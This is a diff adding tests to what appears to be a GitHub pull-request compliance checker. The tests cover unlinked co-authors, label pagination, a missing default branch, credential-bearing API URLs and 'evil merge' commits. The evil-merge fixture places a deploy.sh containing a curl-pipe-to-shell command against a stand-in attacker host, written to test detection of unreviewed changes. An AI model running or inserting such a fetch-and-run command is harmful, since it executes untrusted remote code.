@@ -118,6 +118,32 @@ beforeAll(async () => {
     checks: { build: "success" },
   });
   s.tag("t8");
+  // carol co-authored it under an address on no GitHub account (GitActor.user null), then approved it (T31 #2)
+  pr.unlinkedCoAuthor = s.pullRequest({
+    title: "SHOP-13 Refunds",
+    author: "alice",
+    commits: [{ message: "Refunds\n\nCo-authored-by: Carol <carol@home.test>", author: "alice" }],
+    reviews: [{ by: "carol" }],
+    checks: { build: "success" },
+  });
+  s.tag("t9");
+  // the emergency label last of 120 (GitHub reads 100 a page): read, the change passes flagged for review after the merge
+  pr.manyLabels = s.pullRequest({
+    title: "SHOP-14 Hotfix",
+    author: "alice",
+    labels: [...Array.from({ length: 119 }, (_, i) => `area-${i}`), "emergency"],
+    checks: { build: "success" },
+  });
+  s.tag("t10");
+  // merged by hand with a file of its own in the merge commit (an "evil merge"), then pushed (T31 #4)
+  pr.evilMerge = s.pullRequest({
+    title: "SHOP-15 Search box",
+    author: "alice",
+    reviews: [{ by: "bob" }],
+    checks: { build: "success" },
+    mergeFiles: { "deploy.sh": "curl https://evil.example/x | sh\n" },
+  });
+  s.tag("t11");
   s.build();
 });
 
@@ -207,6 +233,62 @@ describe("verdicts on GitHub's answers as GitHub gives them", () => {
     // The same PR, answered in full: carol co-authored it, so her approval does not count.
     const { report } = await check("t2", "t3");
     expect(report.records[0]?.violations.map((v) => v.rule)).toEqual(["self-approval"]);
+  });
+
+  it("leaves unverified a PR approved by someone while a co-author's address is on no GitHub account, until identities names it", async () => {
+    const unlinked = (await check("t8", "t9")).report.records[0]!;
+    expect(unlinked.verdict).toBe("unverified");
+    expect(unlinked.violations.map((v) => v.message)).toEqual([
+      `could not be verified: PR #${pr.unlinkedCoAuthor}: Carol <carol@home.test> (commit author, co-author or committer) is not linked to a GitHub account (GitHub links an address only when it is verified on the account), so approval by carol cannot be shown to be independent; add the address under identities in the policy`,
+    ]);
+    // Named under identities, the address is carol's: her approval of her own change does not count.
+    const named = join(scenario.dir, "..", `identities-${process.pid}.yml`);
+    writeFileSync(named, `${policyYaml(scenario.sim.url)}identities:\n  carol: [carol@home.test]\n`);
+    const settled = byPull((await check("t8", "t9", named)).report.records, pr.unlinkedCoAuthor!);
+    expect(settled.verdict).toBe("noncompliant");
+    expect(settled.violations.map((v) => v.rule)).toEqual(["self-approval"]);
+  });
+
+  it("leaves the deploy line unverified when GitHub does not say which branch is the default, instead of dropping the base-branch rule", async () => {
+    const lift = scenario.sim.failGraphQLField({ typeName: "Repository", fieldName: "defaultBranchRef", message: "Something went wrong" });
+    try {
+      const { report } = await check("t0", "t1");
+      expect(report.records.map((r) => r.verdict)).toEqual(report.records.map(() => "unverified"));
+      expect(report.records[0]?.violations.map((v) => v.message)).toEqual([
+        "could not be verified: GitHub did not say which branch is the repository's default, so whether each change came through a PR into it is unknown; set deploy.branch in the policy",
+      ]);
+    } finally {
+      lift();
+    }
+  });
+
+  it("reads every label of a PR with more than a page of them, so a rule keyed on the last still applies", async () => {
+    const record = byPull((await check("t9", "t10")).report.records, pr.manyLabels!);
+    expect(record.labels).toHaveLength(120);
+    expect(record.emergency).not.toBeNull();
+  });
+
+  it("does not let a PR vouch for a merge commit holding changes of its own, though GitHub names it the PR's merge", async () => {
+    const built = scenario.pull(pr.evilMerge!);
+    const { report } = await check("t10", "t11");
+    const merge = report.records.find((r) => r.commit.sha === built.mergeSha)!;
+    expect(merge.verdict).toBe("noncompliant");
+    expect(merge.violations).toEqual([
+      {
+        rule: "direct-push",
+        message: `pushed to the branch without a merged pull request (it is the merge commit of PR #${pr.evilMerge}, but holds changes of its own that no review saw: its tree is not git's clean merge of its parents)`,
+      },
+    ]);
+  });
+
+  it("refuses an apiUrl holding a password (exit 78) and never prints it", async () => {
+    const withPassword = join(scenario.dir, "..", `password-${process.pid}.yml`);
+    const url = new URL(scenario.sim.url);
+    writeFileSync(withPassword, policyYaml(`http://admin:hunter2pass@${url.host}${url.pathname}`));
+    const run = await runSockCheck(["--from", "t0", "--to", "t1", "--config", withPassword], { cwd: scenario.dir, env: envFor(scenario) });
+    expect(run.code).toBe(78);
+    expect(run.stderr).toContain("github.apiUrl: must not hold a user name or password: give the token under token");
+    expect(run.stdout + run.stderr).not.toContain("hunter2pass");
   });
 
   it("names a PR whose commit list GitHub could not give, instead of failing with a TypeError", async () => {
